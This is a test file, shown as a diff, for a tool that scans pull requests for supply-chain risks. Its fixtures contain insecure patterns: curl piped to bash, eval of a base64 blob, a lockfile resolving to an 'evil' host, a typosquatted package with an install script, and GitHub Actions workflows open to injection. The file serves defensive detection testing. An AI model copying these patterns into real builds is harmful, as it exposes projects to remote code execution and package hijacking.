@@ -1,0 +1,609 @@
+import { describe, expect, it } from 'vitest';
+import { analyzeSupplyChain, MAX_TRANSITIVE_CHANGES } from '../../src/analyzers/supply-chain.js';
+import { RepoConfig } from '../../src/repo-config/schema.js';
+import { SupplyChainSection } from '../../src/signal/schema.js';
+import type { FileStatus, PrSnapshot, SnapshotContent, SnapshotDependencyChange, SnapshotFile } from '../../src/snapshot/pr-snapshot.js';
+import { DEFAULT_NOW, makeFile, makeSnapshot } from '../support/snapshot-factory.js';
+
+interface Change {
+  readonly files: SnapshotFile[];
+  readonly contents: SnapshotContent[];
+}
+
+/** One changed file with its base and head content; status follows from which side is null. */
+function change(path: string, base: string | null, head: string | null, status?: FileStatus): Change {
+  const fileStatus: FileStatus = status ?? (base === null ? 'added' : head === null ? 'removed' : 'modified');
+  return { files: [makeFile(path, { status: fileStatus })], contents: [{ path, base, head }] };
+}
+
+function snapshotOf(...changes: (Change | SnapshotFile)[]): PrSnapshot {
+  const files: SnapshotFile[] = [];
+  const contents: SnapshotContent[] = [];
+  for (const c of changes) {
+    if ('contents' in c) {
+      files.push(...c.files);
+      contents.push(...c.contents);
+    } else files.push(c);
+  }
+  return makeSnapshot({ files, contents });
+}
+
+function analyze(snapshot: PrSnapshot, config: Partial<RepoConfig> = {}) {
+  const section = analyzeSupplyChain(snapshot, { now: DEFAULT_NOW, config: RepoConfig.parse(config) });
+  expect(SupplyChainSection.safeParse(section).success).toBe(true);
+  return section;
+}
+
+function ids(snapshot: PrSnapshot): string[] {
+  return analyze(snapshot).findings.map((f) => f.id);
+}
+
+const pkg = (body: Record<string, unknown>): string => JSON.stringify({ name: 'app', version: '1.0.0', ...body }, null, 2);
+
+interface LockEntry {
+  version: string;
+  resolved?: string;
+  integrity?: string;
+  dev?: boolean;
+  hasInstallScript?: boolean;
+}
+
+function npmLock(direct: string[], entries: Record<string, LockEntry>): string {
+  const packages: Record<string, unknown> = { '': { name: 'app', dependencies: Object.fromEntries(direct.map((d) => [d, '*'])) } };
+  for (const [name, entry] of Object.entries(entries)) {
+    packages[`node_modules/${name}`] = {
+      resolved: `https://registry.npmjs.org/${name}/-/${name}-${entry.version}.tgz`,
+      integrity: `sha512-${name}-${entry.version}`,
+      ...entry,
+    };
+  }
+  return JSON.stringify({ name: 'app', lockfileVersion: 3, requires: true, packages }, null, 2);
+}
+
+const workflow = (body: string): string => body.replace(/^\n/, '');
+
+const SHA = '0123456789abcdef0123456789abcdef01234567';
+
+interface Case {
+  readonly id: string;
+  readonly positive: () => PrSnapshot;
+  readonly negative: () => PrSnapshot;
+}
+
+const CASES: Case[] = [
+  {
+    id: 'npm-install-script',
+    positive: () => snapshotOf(change('package.json', pkg({ scripts: { test: 'vitest' } }), pkg({ scripts: { test: 'vitest', postinstall: 'node x.js' } }))),
+    negative: () => snapshotOf(change('package.json', pkg({ scripts: { test: 'vitest' } }), pkg({ scripts: { test: 'vitest run', lint: 'eslint .' } }))),
+  },
+  {
+    id: 'composer-install-script',
+    positive: () =>
+      snapshotOf(change('composer.json', JSON.stringify({ require: {} }), JSON.stringify({ require: {}, scripts: { 'post-install-cmd': ['php bin/setup.php'] } }))),
+    negative: () => snapshotOf(change('composer.json', JSON.stringify({ require: {} }), JSON.stringify({ require: {}, scripts: { test: 'phpunit' } }))),
+  },
+  {
+    id: 'python-setup-script',
+    positive: () =>
+      snapshotOf(
+        change(
+          'setup.py',
+          'from setuptools import setup\nsetup(name="x")\n',
+          'from setuptools import setup\nfrom setuptools.command.install import install\nclass Post(install):\n    def run(self):\n        install.run(self)\nsetup(name="x", cmdclass={"install": Post})\n',
+        ),
+      ),
+    negative: () => snapshotOf(change('setup.py', 'from setuptools import setup\nsetup(name="x")\n', 'from setuptools import setup\nsetup(name="x", version="2")\n')),
+  },
+  {
+    id: 'cargo-build-script',
+    positive: () => snapshotOf(makeFile('crates/sys/build.rs', { status: 'added' })),
+    negative: () => snapshotOf(makeFile('crates/sys/build.rs', { status: 'modified' }), makeFile('src/build.ts', { status: 'added' })),
+  },
+  {
+    id: 'typosquat',
+    positive: () => snapshotOf(change('package.json', pkg({ dependencies: { express: '^4.19.2' } }), pkg({ dependencies: { express: '^4.19.2', expresss: '^1.0.0' } }))),
+    negative: () => snapshotOf(change('package.json', pkg({ dependencies: { express: '^4.19.2' } }), pkg({ dependencies: { express: '^4.19.2', lodash: '^4.17.21', '@acme/expresss': '^1.0.0' } }))),
+  },
+  {
+    id: 'lockfile-without-manifest',
+    positive: () => snapshotOf(change('package-lock.json', npmLock(['a'], { a: { version: '1.0.0' } }), npmLock(['a'], { a: { version: '1.0.1' } }))),
+    negative: () =>
+      snapshotOf(
+        change('package.json', pkg({ dependencies: { a: '^1.0.0' } }), pkg({ dependencies: { a: '^1.0.1' } })),
+        change('package-lock.json', npmLock(['a'], { a: { version: '1.0.0' } }), npmLock(['a'], { a: { version: '1.0.1' } })),
+      ),
+  },
+  {
+    id: 'lockfile-foreign-host',
+    positive: () =>
+      snapshotOf(change('package-lock.json', npmLock(['a'], { a: { version: '1.0.0' } }), npmLock(['a'], { a: { version: '1.0.1', resolved: 'https://npm.evil.example/a-1.0.1.tgz' } }))),
+    negative: () =>
+      snapshotOf(
+        change(
+          'package-lock.json',
+          npmLock(['a', 'b'], { a: { version: '1.0.0' }, b: { version: '1.0.0', resolved: 'https://npm.corp.example/b-1.0.0.tgz' } }),
+          npmLock(['a', 'b'], { a: { version: '1.0.1' }, b: { version: '1.1.0', resolved: 'https://npm.corp.example/b-1.1.0.tgz' } }),
+        ),
+      ),
+  },
+  {
+    id: 'lockfile-integrity-changed',
+    positive: () =>
+      snapshotOf(change('package-lock.json', npmLock(['a'], { a: { version: '1.0.0', integrity: 'sha512-old' } }), npmLock(['a'], { a: { version: '1.0.0', integrity: 'sha512-new' } }))),
+    negative: () =>
+      snapshotOf(
+        change(
+          'package-lock.json',
+          npmLock(['a', 'b'], { a: { version: '1.0.0', integrity: 'sha1-old' }, b: { version: '1.0.0', integrity: 'sha512-b1' } }),
+          npmLock(['a', 'b'], { a: { version: '1.0.0', integrity: 'sha512-new' }, b: { version: '2.0.0', integrity: 'sha512-b2' } }),
+        ),
+      ),
+  },
+  {
+    id: 'lockfile-large-change',
+    positive: () => {
+      const entries: Record<string, LockEntry> = {};
+      for (let i = 0; i <= MAX_TRANSITIVE_CHANGES; i += 1) entries[`dep-${i}`] = { version: '1.0.0' };
+      return snapshotOf(change('package-lock.json', npmLock([], {}), npmLock([], entries)));
+    },
+    negative: () => snapshotOf(change('package-lock.json', npmLock([], {}), npmLock([], { a: { version: '1.0.0' }, b: { version: '1.0.0' } }))),
+  },
+  {
+    id: 'git-dependency',
+    positive: () => snapshotOf(change('package.json', pkg({ dependencies: {} }), pkg({ dependencies: { mine: 'github:someone/mine#main' } }))),
+    negative: () => snapshotOf(change('package.json', pkg({ dependencies: { mine: 'github:someone/mine#main' } }), pkg({ dependencies: { mine: 'github:someone/mine#main', b: '^1.0.0' } }))),
+  },
+  {
+    id: 'url-dependency',
+    positive: () => snapshotOf(change('requirements.txt', 'requests==2.31.0\n', 'requests==2.31.0\nhttps://example.com/pkgs/tool-1.0.tar.gz#egg=tool\n')),
+    negative: () => snapshotOf(change('requirements.txt', 'requests==2.31.0\n', 'requests==2.32.0\n')),
+  },
+  {
+    id: 'path-dependency',
+    positive: () => snapshotOf(change('Cargo.toml', '[package]\nname = "x"\n\n[dependencies]\nserde = "1"\n', '[package]\nname = "x"\n\n[dependencies]\nserde = "1"\nlocal = { path = "../local" }\n')),
+    negative: () => snapshotOf(change('Cargo.toml', '[package]\nname = "x"\n\n[dependencies]\nserde = "1"\n', '[package]\nname = "x"\n\n[dependencies]\nserde = "1.0.200"\n')),
+  },
+  {
+    id: 'go-replace',
+    positive: () =>
+      snapshotOf(
+        change(
+          'go.mod',
+          'module example.com/app\n\ngo 1.22\n\nrequire github.com/sirupsen/logrus v1.9.3\n',
+          'module example.com/app\n\ngo 1.22\n\nrequire github.com/sirupsen/logrus v1.9.3\n\nreplace github.com/sirupsen/logrus => github.com/someone/logrus v1.9.4\n',
+        ),
+      ),
+    negative: () =>
+      snapshotOf(
+        change(
+          'go.mod',
+          'module example.com/app\n\nrequire github.com/sirupsen/logrus v1.9.3\n\nreplace github.com/x/y => ../y\n',
+          'module example.com/app\n\nrequire github.com/sirupsen/logrus v1.9.4\n\nreplace github.com/x/y => ../y\n',
+        ),
+      ),
+  },
+  {
+    id: 'dependency-downgrade',
+    positive: () => snapshotOf(change('package.json', pkg({ dependencies: { a: '^2.1.0' } }), pkg({ dependencies: { a: '^1.9.0' } }))),
+    negative: () => snapshotOf(change('package.json', pkg({ dependencies: { a: '^1.9.0' } }), pkg({ dependencies: { a: '^2.1.0' } }))),
+  },
+  {
+    id: 'unbounded-version',
+    positive: () => snapshotOf(change('package.json', pkg({ dependencies: {} }), pkg({ dependencies: { a: '*' } }))),
+    negative: () => snapshotOf(change('package.json', pkg({ dependencies: {} }), pkg({ dependencies: { a: '^1.0.0' }, peerDependencies: { react: '*' } }))),
+  },
+  {
+    id: 'binary-artifact',
+    positive: () => snapshotOf(makeFile('tools/helper.jar', { status: 'added' })),
+    negative: () => snapshotOf(makeFile('docs/logo.png', { status: 'added' }), makeFile('tools/helper.jar', { status: 'removed' })),
+  },
+  {
+    id: 'obfuscated-code',
+    positive: () => snapshotOf(makeFile('src/index.js', { patch: `@@ -1,2 +1,3 @@\n const a = 1;\n+eval(Buffer.from("${'QUJD'.repeat(50)}", "base64").toString());\n const b = 2;` })),
+    negative: () =>
+      snapshotOf(
+        makeFile('src/index.js', { patch: `@@ -1,1 +1,2 @@\n const a = 1;\n+const logo = "${'QUJD'.repeat(50)}";` }),
+        makeFile('dist/index.js', { patch: `@@ -1,1 +1,2 @@\n x\n+eval(atob("aGVsbG8="));` }),
+      ),
+  },
+  {
+    id: 'minified-source',
+    positive: () => snapshotOf(makeFile('src/util.ts', { patch: `@@ -0,0 +1,1 @@\n+${'var a=1;'.repeat(200)}` })),
+    negative: () => snapshotOf(makeFile('vendor/lib.js', { patch: `@@ -0,0 +1,1 @@\n+${'var a=1;'.repeat(200)}` }), makeFile('src/util.ts', { patch: '@@ -0,0 +1,1 @@\n+export const a = 1;' })),
+  },
+  {
+    id: 'vulnerable-dependency',
+    positive: () => makeSnapshot({ dependencyChanges: [reviewChange('added', [{ severity: 'high', advisoryGhsaId: 'GHSA-aaaa-bbbb-cccc', advisorySummary: 'Prototype pollution', advisoryUrl: 'https://github.com/advisories/GHSA-aaaa-bbbb-cccc' }])] }),
+    negative: () => makeSnapshot({ dependencyChanges: [reviewChange('added', []), reviewChange('removed', [{ severity: 'high', advisoryGhsaId: 'GHSA-x', advisorySummary: 's', advisoryUrl: 'u' }])] }),
+  },
+  {
+    id: 'dependency-license',
+    positive: () => makeSnapshot({ dependencyChanges: [{ ...reviewChange('added', []), license: 'AGPL-3.0-only' }] }),
+    negative: () => makeSnapshot({ dependencyChanges: [{ ...reviewChange('added', []), license: 'MIT' }, { ...reviewChange('added', []), name: 'gpl-dev-tool', license: 'GPL-3.0', scope: 'development' }] }),
+  },
+  {
+    id: 'gha-pr-target-checkout',
+    positive: () =>
+      snapshotOf(
+        change(
+          '.github/workflows/pr.yml',
+          null,
+          workflow(`
+on: pull_request_target
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@${SHA}
+        with:
+          ref: \${{ github.event.pull_request.head.sha }}
+      - run: npm ci && npm test
+`),
+        ),
+      ),
+    negative: () =>
+      snapshotOf(
+        change(
+          '.github/workflows/pr.yml',
+          null,
+          workflow(`
+on: pull_request
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@${SHA}
+        with:
+          ref: \${{ github.event.pull_request.head.sha }}
+      - run: npm ci && npm test
+`),
+        ),
+        change('.github/workflows/label.yml', null, workflow(`
+on: pull_request_target
+jobs:
+  label:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/labeler@${SHA}
+`)),
+      ),
+  },
+  {
+    id: 'gha-template-injection',
+    positive: () =>
+      snapshotOf(change('.github/workflows/greet.yml', null, workflow(`
+on: issues
+jobs:
+  greet:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "New issue \${{ github.event.issue.title }}"
+`))),
+    negative: () =>
+      snapshotOf(change('.github/workflows/greet.yml', null, workflow(`
+on: issues
+jobs:
+  greet:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "New issue $TITLE #\${{ github.event.issue.number }}"
+        env:
+          TITLE: \${{ github.event.issue.title }}
+`))),
+  },
+  {
+    id: 'gha-excessive-permissions',
+    positive: () =>
+      snapshotOf(change('.github/workflows/ci.yml', workflow(`
+on: push
+permissions:
+  contents: read
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: make
+`), workflow(`
+on: push
+permissions: write-all
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: make
+`))),
+    negative: () =>
+      snapshotOf(change('.github/workflows/ci.yml', workflow(`
+on: push
+permissions:
+  contents: write
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: make
+`), workflow(`
+on: push
+permissions:
+  contents: write
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: make test
+`))),
+  },
+  {
+    id: 'gha-unpinned-action',
+    positive: () =>
+      snapshotOf(change('.github/workflows/ci.yml', null, workflow(`
+on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: some-org/deploy-action@v2
+`))),
+    negative: () =>
+      snapshotOf(change('.github/workflows/ci.yml', workflow(`
+on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: some-org/deploy-action@v2
+`), workflow(`
+on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: some-org/deploy-action@v2
+      - uses: other-org/tool@${SHA} # v1.2.3
+      - uses: ./.github/actions/local
+`))),
+  },
+  {
+    id: 'gha-pr-target-secrets',
+    positive: () =>
+      snapshotOf(change('.github/workflows/pr.yml', null, workflow(`
+on: workflow_run
+jobs:
+  deploy:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@${SHA}
+        with:
+          ref: \${{ github.event.workflow_run.head_sha }}
+      - run: ./deploy.sh
+        env:
+          TOKEN: \${{ secrets.DEPLOY_TOKEN }}
+`))),
+    negative: () =>
+      snapshotOf(change('.github/workflows/pr.yml', null, workflow(`
+on: pull_request_target
+jobs:
+  comment:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@${SHA}
+      - run: ./comment.sh
+        env:
+          TOKEN: \${{ secrets.BOT_TOKEN }}
+`))),
+  },
+  {
+    id: 'gha-self-hosted-runner',
+    positive: () =>
+      snapshotOf(change('.github/workflows/ci.yml', null, workflow(`
+on: [push, pull_request]
+jobs:
+  a:
+    runs-on: [self-hosted, linux]
+    steps:
+      - run: make
+`))),
+    negative: () =>
+      snapshotOf(change('.github/workflows/ci.yml', null, workflow(`
+on:
+  push:
+    branches: [main]
+jobs:
+  a:
+    runs-on: self-hosted
+    steps:
+      - run: make
+`))),
+  },
+  {
+    id: 'curl-pipe-shell',
+    positive: () => snapshotOf(change('Dockerfile', 'FROM node:20@sha256:' + 'a'.repeat(64) + '\nRUN npm ci\n', 'FROM node:20@sha256:' + 'a'.repeat(64) + '\nRUN curl -fsSL https://get.example.com/install.sh \\\n  | bash -s -- --yes\n')),
+    negative: () =>
+      snapshotOf(change('Dockerfile', 'FROM node:20@sha256:' + 'a'.repeat(64) + '\nRUN npm ci\n', 'FROM node:20@sha256:' + 'a'.repeat(64) + '\nRUN curl -fsSLo install.sh https://get.example.com/install.sh && sha256sum -c sums && sh install.sh\n')),
+  },
+  {
+    id: 'docker-unpinned-image',
+    positive: () => snapshotOf(change('docker/app.Dockerfile', null, 'FROM python:3.12-slim\nRUN pip install .\n')),
+    negative: () =>
+      snapshotOf(change('docker/app.Dockerfile', null, `FROM python:3.12-slim@sha256:${'b'.repeat(64)} AS build\nRUN pip wheel .\nFROM build\nFROM scratch\nCOPY --from=build /w /w\n`)),
+  },
+];
+
+function reviewChange(changeType: 'added' | 'removed', vulnerabilities: SnapshotDependencyChange['vulnerabilities']): SnapshotDependencyChange {
+  return {
+    changeType,
+    manifest: 'package-lock.json',
+    ecosystem: 'npm',
+    name: 'lodash',
+    version: '4.17.15',
+    packageUrl: 'pkg:npm/lodash@4.17.15',
+    license: 'MIT',
+    scope: 'runtime',
+    vulnerabilities,
+  };
+}
+
+describe('analyzeSupplyChain findings', () => {
+  for (const c of CASES) {
+    it(`reports ${c.id} when the PR introduces it`, () => {
+      expect(ids(c.positive())).toContain(c.id);
+    });
+    it(`does not report ${c.id} otherwise`, () => {
+      expect(ids(c.negative())).not.toContain(c.id);
+    });
+  }
+
+  it('has a case for every finding id documented in docs/findings.md', async () => {
+    const { readFile } = await import('node:fs/promises');
+    const doc = await readFile(new URL('../../docs/findings.md', import.meta.url), 'utf8');
+    const documented = [...doc.matchAll(/^### `([a-z0-9-]+)`/gm)].map((m) => m[1]).sort();
+    expect(documented).toEqual(CASES.map((c) => c.id).sort());
+  });
+});
+
+describe('analyzeSupplyChain dependencies', () => {
+  it('reports manifest changes with resolved versions from the lockfile, and transitive ones against the lockfile', () => {
+    const section = analyze(
+      snapshotOf(
+        change('package.json', pkg({ dependencies: { express: '^4.18.0', left: '^1.0.0' }, devDependencies: { vitest: '^1.0.0' } }), pkg({ dependencies: { express: '^4.19.0', chalk: '^5.3.0' }, devDependencies: { vitest: '^1.0.0' } })),
+        change(
+          'package-lock.json',
+          npmLock(['express', 'left', 'vitest'], { express: { version: '4.18.2' }, left: { version: '1.0.0' }, vitest: { version: '1.6.0', dev: true }, ms: { version: '2.0.0' } }),
+          npmLock(['express', 'chalk', 'vitest'], { express: { version: '4.19.2' }, chalk: { version: '5.3.0' }, vitest: { version: '1.6.0', dev: true }, ms: { version: '2.1.3' }, 'tiny-dev': { version: '1.0.0', dev: true } }),
+        ),
+      ),
+    );
+    expect(section.new_dependencies).toEqual([
+      { ecosystem: 'npm', name: 'tiny-dev', version: '1.0.0', manifest: 'package-lock.json', dev: true, source: 'registry' },
+      { ecosystem: 'npm', name: 'chalk', version: '5.3.0', manifest: 'package.json', dev: false, source: 'registry' },
+    ]);
+    expect(section.updated_dependencies).toEqual([
+      { ecosystem: 'npm', name: 'ms', version: '2.1.3', manifest: 'package-lock.json', dev: false, source: 'registry', from_version: '2.0.0', to_version: '2.1.3', direction: 'upgrade' },
+      { ecosystem: 'npm', name: 'express', version: '4.19.2', manifest: 'package.json', dev: false, source: 'registry', from_version: '4.18.2', to_version: '4.19.2', direction: 'upgrade' },
+    ]);
+    expect(section.removed_dependencies).toEqual([{ ecosystem: 'npm', name: 'left', version: '1.0.0', manifest: 'package.json', dev: false, source: 'registry' }]);
+    expect(section.lockfile_changes).toEqual([{ path: 'package-lock.json', ecosystem: 'npm', manifest_changed: true }]);
+  });
+
+  it('counts a workspace manifest below the lockfile as its manifest', () => {
+    const section = analyze(
+      snapshotOf(
+        change('packages/web/package.json', pkg({ dependencies: {} }), pkg({ dependencies: { a: '^1.0.0' } })),
+        change('pnpm-lock.yaml', "lockfileVersion: '9.0'\n", "lockfileVersion: '9.0'\n\npackages:\n\n  a@1.0.0:\n    resolution: {integrity: sha512-a}\n"),
+      ),
+    );
+    expect(section.lockfile_changes).toEqual([{ path: 'pnpm-lock.yaml', ecosystem: 'npm', manifest_changed: true }]);
+    expect(section.new_dependencies.map((d) => [d.name, d.version, d.manifest])).toEqual([['a', '1.0.0', 'packages/web/package.json']]);
+  });
+
+  it('lists every changed CI file with its findings, and actions and images as dependencies', () => {
+    const section = analyze(
+      snapshotOf(
+        change('.github/workflows/ci.yml', workflow(`
+on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v3
+`), workflow(`
+on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    container: node:20
+    steps:
+      - uses: actions/checkout@v4
+`)),
+        change('Dockerfile', 'FROM alpine:3.19\n', 'FROM alpine:3.20\n'),
+      ),
+    );
+    expect(section.ci_changes.map((c) => [c.path, c.status, c.findings.map((f) => f.id)])).toEqual([
+      ['.github/workflows/ci.yml', 'modified', ['docker-unpinned-image', 'gha-unpinned-action']],
+      ['Dockerfile', 'modified', ['docker-unpinned-image']],
+    ]);
+    expect(section.updated_dependencies.map((d) => [d.ecosystem, d.name, d.from_version, d.to_version, d.direction])).toEqual([
+      ['github-actions', 'actions/checkout', 'v3', 'v4', 'upgrade'],
+      ['docker', 'alpine', '3.19', '3.20', 'upgrade'],
+    ]);
+  });
+
+  it('does not report what the base already had', () => {
+    const body = workflow(`
+on: pull_request_target
+permissions: write-all
+jobs:
+  a:
+    runs-on: self-hosted
+    steps:
+      - uses: actions/checkout@v4
+        with:
+          ref: \${{ github.head_ref }}
+      - run: echo "\${{ github.event.pull_request.title }}" && curl https://x.example | sh
+`);
+    const section = analyze(snapshotOf(change('.github/workflows/ci.yml', body, `${body}\n# a comment\n`)));
+    expect(section.findings).toEqual([]);
+  });
+
+  it('escalates a typosquat that runs an install script to critical', () => {
+    const section = analyze(
+      snapshotOf(
+        change('package.json', pkg({ dependencies: {} }), pkg({ dependencies: { 'lodahs': '^1.0.0' } })),
+        change('package-lock.json', npmLock([], {}), npmLock(['lodahs'], { lodahs: { version: '1.0.0', hasInstallScript: true } })),
+      ),
+    );
+    expect(section.findings.filter((f) => f.package === 'lodahs').map((f) => [f.id, f.severity])).toEqual([
+      ['typosquat', 'critical'],
+      ['npm-install-script', 'high'],
+    ]);
+  });
+
+  it('puts dependency review vulnerabilities in the section', () => {
+    const section = analyze(
+      makeSnapshot({
+        dependencyChanges: [reviewChange('added', [{ severity: 'critical', advisoryGhsaId: 'GHSA-1', advisorySummary: 'RCE', advisoryUrl: 'https://github.com/advisories/GHSA-1' }])],
+      }),
+    );
+    expect(section.vulnerabilities).toEqual([
+      { ecosystem: 'npm', name: 'lodash', version: '4.17.15', severity: 'critical', advisory: 'GHSA-1', summary: 'RCE', url: 'https://github.com/advisories/GHSA-1' },
+    ]);
+    expect(section.findings.map((f) => [f.id, f.severity, f.path, f.package])).toEqual([['vulnerable-dependency', 'critical', 'package-lock.json', 'lodash']]);
+    expect(section.new_dependencies.map((d) => d.name)).toEqual(['lodash']);
+  });
+
+  it('records unparseable files as skipped, without throwing', () => {
+    const section = analyze(snapshotOf(change('package.json', pkg({}), '{ broken'), change('.github/workflows/x.yml', null, 'on: [push\n')));
+    expect(section.skipped.map((s) => s.path)).toEqual(['package.json', '.github/workflows/x.yml']);
+    expect(section.findings).toEqual([]);
+  });
+
+  it('applies the repository configuration: overrides, then ignores', () => {
+    const snapshot = CASES.find((c) => c.id === 'gha-unpinned-action')!.positive();
+    const section = analyze(snapshot, {
+      severity_overrides: { 'gha-unpinned-action': 'high' },
+      ignore_findings: [{ id: 'gha-unpinned-action', package: 'some-org/deploy-action', reason: 'vendored fork, reviewed' }],
+    });
+    expect(section.findings).toEqual([]);
+    expect(section.suppressed_findings.map((f) => [f.id, f.severity, f.reason])).toEqual([['gha-unpinned-action', 'high', 'vendored fork, reviewed']]);
+    expect(section.ci_changes[0]!.findings).toEqual([]);
+  });
+
+  it('stays fast on a 3,000-file PR with a large lockfile change', () => {
+    const base: Record<string, LockEntry> = {};
+    const head: Record<string, LockEntry> = {};
+    for (let i = 0; i < 10000; i += 1) {
+      base[`pkg-${i}`] = { version: `1.0.${i % 10}` };
+      head[`pkg-${i}`] = { version: i % 10 === 0 ? `1.1.${i % 10}` : `1.0.${i % 10}` };
+    }
+    const files: (Change | SnapshotFile)[] = [change('package-lock.json', npmLock([], base), npmLock([], head))];
+    for (let i = 0; i < 3000; i += 1) files.push(makeFile(`src/module-${i}/file-${i}.ts`, { patch: '@@ -1,2 +1,3 @@\n a\n+export const value = 1;\n b' }));
+    const snapshot = snapshotOf(...files);
+    analyze(snapshotOf(makeFile('warm-up.js')));
+    const start = performance.now();
+    const section = analyze(snapshot);
+    const elapsed = performance.now() - start;
+    expect(section.updated_dependencies).toHaveLength(MAX_TRANSITIVE_CHANGES);
+    expect(section.findings.map((f) => f.id)).toEqual(['lockfile-without-manifest', 'lockfile-large-change'].sort((a, b) => (a === 'lockfile-without-manifest' ? -1 : b === 'lockfile-without-manifest' ? 1 : 0)));
+    expect(elapsed).toBeLessThan(500);
+  });
+});
